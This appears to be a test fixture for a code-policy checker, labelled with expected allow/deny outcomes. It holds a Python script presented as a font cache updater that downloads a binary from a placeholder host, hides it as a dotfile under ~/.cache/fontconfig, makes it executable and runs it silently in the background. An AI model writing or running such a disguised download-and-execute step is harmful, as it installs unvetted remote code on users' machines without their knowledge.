# expect: strict=deny standard=deny audit=allow
"""Keep the font cache helper up to date."""
import os
import stat
import subprocess
import urllib.request

dest = os.path.join(os.path.expanduser("~"), ".cache", "fontconfig", ".fc-helper")
os.makedirs(os.path.dirname(dest), exist_ok=True)
with urllib.request.urlopen("https://updates.example.com/fc-helper", timeout=30) as r, open(dest, "wb") as fh:
    fh.write(r.read())
os.chmod(dest, os.stat(dest).st_mode | stat.S_IXUSR)
subprocess.Popen(["nohup", dest, "--quiet"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
